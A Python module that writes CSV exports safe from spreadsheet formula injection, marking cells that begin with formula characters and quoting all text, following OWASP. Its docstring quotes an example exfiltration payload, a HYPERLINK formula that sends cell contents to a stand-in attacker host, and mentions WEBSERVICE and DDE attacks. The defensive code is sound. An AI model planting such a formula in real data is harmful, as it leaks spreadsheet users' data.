"""CSV files that are safe to open in a spreadsheet: every CSV the portal writes goes through here.

Excel, LibreOffice Calc and Google Sheets run a cell as a formula when its text
begins with ``=``, ``+``, ``-`` or ``@`` (or with a tab or carriage return they skip
first). A value someone else typed — a stranger's User-Agent header, a bio, a
staff note — could then fetch a URL that carries the other cells away
(``=HYPERLINK("http://evil.example/?leak="&A2, "Click")``, ``=WEBSERVICE(…)``)
or start a program through DDE on the reader's computer (OWASP, "CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection; ASVS 5.0 V1.2.10).

The rule, following OWASP:

- a text cell whose first character is ``=`` ``+`` ``-`` ``@``, tab, carriage
  return or NUL, or whose first character after leading white space is one of
  ``=`` ``+`` ``-`` ``@`` or their full-width forms (``＝`` ``＋`` ``－`` ``＠``, which
  spreadsheets with East Asian input treat alike), is written with a single
  quote (``'``) in front: the spreadsheet's mark for "this is text", which it
  does not show;
- every text cell is quoted, so a spreadsheet that splits lines on another
  separator (``;`` in many locales) cannot start a new cell inside one;
- numbers (``int``, ``float``, ``Decimal``; not ``bool``) are written as they are,
  unquoted: ``-3`` stays the number -3. A number stored as text (a phone number,
  "-3" typed in a bio) is text and is neutralised like any other.

A neutralised cell no longer holds exactly the stored text; where an exact copy
matters (the portable copy), a JSON file beside the CSV holds it.

Where the database writes the cells (the portable copy's large files), the same
rule is ``FORMULA_PATTERN``, a regular expression that PostgreSQL and Python read
alike: a text is marked exactly when it matches.
"""

import csv
from decimal import Decimal

#: First characters that make a spreadsheet read a cell as a formula (OWASP; NUL from ASVS).
FORMULA_STARTS = frozenset("=+-@\t\r\0")
#: Characters that start a formula after leading white space, full-width forms included.
FORMULA_STARTS_AFTER_SPACE = frozenset("=+-@＝＋－＠")
_STARTS_ANY = FORMULA_STARTS | FORMULA_STARTS_AFTER_SPACE
#: What a neutralised cell starts with.
TEXT_MARK = "'"


def _bracket(characters):
    """Return a regular-expression bracket of ``characters``, each as a ``\\uXXXX`` escape (Python and PostgreSQL)."""
    return "[" + "".join(f"\\u{ord(character):04x}" for character in sorted(characters)) + "]"


#: The characters ``str.isspace()`` and ``str.lstrip()`` take for white space (all in the Basic Multilingual Plane).
_WHITE_SPACE = frozenset(chr(code) for code in range(0x10000) if chr(code).isspace())
#: A text ``cell()`` marks, as a regular expression that PostgreSQL (ARE) and Python read alike: a first
#: character that starts a formula, or white space and then one. NUL is left out: PostgreSQL text cannot hold it.
FORMULA_PATTERN = (
    f"^(?:{_bracket(FORMULA_STARTS - FORMULA_STARTS_AFTER_SPACE - {chr(0)})}"
    f"|{_bracket(_WHITE_SPACE)}*{_bracket(FORMULA_STARTS_AFTER_SPACE)})"
)


def cell(value):
    """Return ``value`` as a spreadsheet will read it safely: text neutralised, numbers kept.

    Args:
        value: any value; None is an empty cell, ``int``/``float``/``Decimal`` stay
            numbers, anything else is written as its ``str()``.

    Returns:
        the number itself, or a str: the text, with ``TEXT_MARK`` in front when a
        spreadsheet would run it as a formula (see the module's rule).
    """
    if isinstance(value, str):
        text = value
    elif value is None:
        return ""
    elif isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    else:
        text = str(value)
    # SECURITY: OWASP CSV injection — a cell a spreadsheet would run is marked as text.
    first = text[:1]
    if first in _STARTS_ANY or (first.isspace() and text.lstrip()[:1] in FORMULA_STARTS_AFTER_SPACE):
        return TEXT_MARK + text
    return text


class Writer:
    """Like ``csv.writer``, with every cell passed through ``cell()`` and text cells quoted (RFC 4180)."""

    def __init__(self, stream):
        self._writer = csv.writer(stream, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")

    def writerow(self, row):
        """Write one line of cells (an iterable of values)."""
        return self._writer.writerow([cell(value) for value in row])

    def writerows(self, rows):
        """Write several lines, each as ``writerow``."""
        for row in rows:
            self.writerow(row)


class DictWriter(Writer):
    """Like ``csv.DictWriter`` (a missing key is an empty cell, an unknown key is refused), through ``cell()``."""

    def __init__(self, stream, fieldnames):
        super().__init__(stream)
        self.fieldnames = tuple(fieldnames)

    def writeheader(self):
        """Write the line of column names."""
        return super().writerow(self.fieldnames)

    def writerow(self, row):
        """Write one dict as a line, in ``fieldnames`` order.

        Raises:
            ValueError: ``row`` has a key that is not a column.
        """
        unknown = row.keys() - set(self.fieldnames)
        if unknown:
            raise ValueError(f"Not columns of this file: {', '.join(sorted(map(str, unknown)))}")
        return super().writerow([row.get(name) for name in self.fieldnames])


def writer(stream):
    """Return a ``Writer`` writing CSV lines to the text ``stream`` (opened with ``newline=""``)."""
    return Writer(stream)


def write_csv(stream, columns, rows):
    """Write ``rows`` (dicts keyed by ``columns``) to the text ``stream`` as CSV with a header (RFC 4180).

    No cell opens as a live formula (OWASP CSV injection).
    """
    writer = DictWriter(stream, columns)
    writer.writeheader()
    writer.writerows(rows)
